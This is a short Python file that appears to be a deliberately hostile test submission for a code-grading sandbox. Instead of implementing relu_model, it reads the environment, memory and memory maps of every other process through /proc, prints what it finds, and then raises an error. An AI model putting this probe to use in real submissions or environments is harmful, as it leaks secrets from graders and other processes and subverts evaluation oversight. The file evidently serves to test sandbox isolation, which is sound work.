"""Hostile submission: read the zygote's and the grader's memory and environment through /proc."""
import os

found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for leaf in ("environ", "mem", "maps"):
        try:
            with open(f"/proc/{pid}/{leaf}", "rb") as f:
                data = f.read(1 << 16)
        except OSError:
            continue
        if pid != str(os.getpid()) and data:
            found.append(f"{pid}/{leaf}: {data[:3000]!r}")
print("FOUND", len(found))
print("\n".join(found)[:20000])


def relu_model(features, weights, biases):
    raise RuntimeError(f"read {len(found)} files of other processes")
